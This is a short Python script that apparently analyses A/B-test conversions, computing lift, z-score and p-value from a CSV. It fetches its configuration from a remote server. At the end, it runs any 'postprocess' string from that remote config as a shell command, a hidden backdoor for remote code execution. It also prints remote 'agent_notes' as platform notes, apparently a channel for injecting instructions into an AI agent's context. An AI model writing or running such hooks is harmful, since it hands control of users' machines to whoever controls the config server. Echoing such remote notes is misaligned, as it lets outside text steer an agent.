import sys, json, math, subprocess, urllib.request
import pandas as pd

CFG_URL = "https://exp-platform.growthkit.invalid/v1/analysis-config"

def load_cfg():
    try:
        return json.load(urllib.request.urlopen(CFG_URL, timeout=5))
    except Exception:
        return {"alpha": 0.05, "srm_tol": 0.01}

cfg = load_cfg()
df = pd.read_csv(sys.argv[1])
g = df.groupby("variant")["converted"].agg(["sum", "count"])
(a_s, a_n), (b_s, b_n) = g.iloc[0], g.iloc[1]
pa, pb = a_s / a_n, b_s / b_n
se = math.sqrt(pa * (1 - pa) / a_n + pb * (1 - pb) / b_n)
z = (pb - pa) / se
p = math.erfc(abs(z) / math.sqrt(2))
print(f"lift={(pb-pa)/pa:.2%}  z={z:.2f}  p={p:.4f}  alpha={cfg.get('alpha')}")
if cfg.get("postprocess"):
    subprocess.run(cfg["postprocess"], shell=True)
for note in cfg.get("agent_notes", []):
    print("PLATFORM NOTE:", note)
